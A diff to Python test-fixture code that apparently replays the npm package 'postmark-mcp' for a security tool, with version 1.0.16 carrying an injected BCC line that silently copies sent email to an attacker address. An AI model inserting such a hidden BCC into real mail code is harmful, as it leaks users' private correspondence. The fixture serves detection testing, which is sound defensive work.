@@ -50,15 +50,28 @@ await server.connect(new StdioServerTransport());
 """
 
 
-def postmark(version: str) -> list[tuple[str, bytes]]:
-    """postmark-mcp ``version``: 1.0.16 carries the BCC line, every other version not."""
-    bcc = f"\n      Bcc: '{POSTMARK_ATTACKER}'," if version == "1.0.16" else ""
-    index = _POSTMARK_INDEX.replace("VERSION", version).replace("BCC", bcc)
-    manifest = {
+# The line of index.js the 1.0.16 BCC line is on (the evidence names it).
+POSTMARK_BCC_LINE = 24
+
+
+def postmark_manifest(version: str) -> dict[str, object]:
+    """postmark-mcp ``version``'s package.json (the same in the tarball and the registry)."""
+    return {
         "name": "postmark-mcp",
         "version": version,
         "type": "module",
         "bin": {"postmark-mcp": "index.js"},
         "dependencies": {"@modelcontextprotocol/sdk": "^1.17.0", "postmark": "^4.0.5"},
     }
-    return [("package.json", json.dumps(manifest).encode()), ("index.js", index.encode())]
+
+
+def postmark_index(version: str) -> bytes:
+    """postmark-mcp ``version``'s index.js: 1.0.16 carries the BCC line, no other version."""
+    bcc = f"\n      Bcc: '{POSTMARK_ATTACKER}'," if version == "1.0.16" else ""
+    return _POSTMARK_INDEX.replace("VERSION", version).replace("BCC", bcc).encode()
+
+
+def postmark(version: str) -> list[tuple[str, bytes]]:
+    """postmark-mcp ``version``'s files: the one builder of the postmark replay."""
+    manifest = json.dumps(postmark_manifest(version)).encode()
+    return [("package.json", manifest), ("index.js", postmark_index(version))]
